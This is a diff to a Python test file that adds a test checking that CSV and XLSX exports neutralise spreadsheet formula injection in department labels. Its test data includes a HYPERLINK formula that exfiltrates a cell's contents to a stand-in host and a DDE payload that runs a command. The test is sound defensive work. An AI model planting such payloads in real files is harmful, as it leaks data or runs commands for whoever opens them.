@@ -129,3 +129,33 @@ def test_xlsx_escapes_text(tmp_path):
     path = export.write_xlsx(tmp_path / "esc.xlsx", {"department": [f]})
     ws = openpyxl.load_workbook(path)["Departments"]
     assert ws["A2"].value == '<Служба> "Ж&К" ' and ws["B2"].value == "a&b"
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1",
+    "\r=1",
+]
+
+
+def test_formulas_from_the_platform_are_neutralised_in_csv_and_xlsx(tmp_path):
+    """A hostile platform names its departments as formulas: both files hold them as text with a leading '."""
+    figures = [stats.Figures(key=f"d{i}", label=text) for i, text in enumerate(FORMULAS)]
+    figures.append(stats.Figures(key="plain", label="-3"))  # a plain number as text stays as it is
+    csv_path = export.write_csv(tmp_path / "f.csv", {"department": figures}, delimiter=";", decimal=",")
+    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle, delimiter=";"))[1:]
+    labels = [r[1] for r in rows]
+    assert labels == ["'" + t for t in FORMULAS] + ["-3"]
+    raw = csv_path.read_text(encoding="utf-8-sig")
+    assert not any(line.split(";")[1].startswith(("=", "+", "-", "@")) for line in raw.splitlines()[1:-1])
+
+    xlsx_path = export.write_xlsx(tmp_path / "f.xlsx", {"department": figures})
+    sheet = openpyxl.load_workbook(xlsx_path)["Departments"]
+    cells = [sheet.cell(row=r, column=1) for r in range(2, len(figures) + 2)]
+    assert [c.data_type for c in cells] == ["s"] * len(figures)  # strings, no formula ("f")
+    # (XML reads a CR in text as a line feed)
+    assert [c.value for c in cells] == ["'" + t.replace("\r", "\n") for t in FORMULAS] + ["-3"]
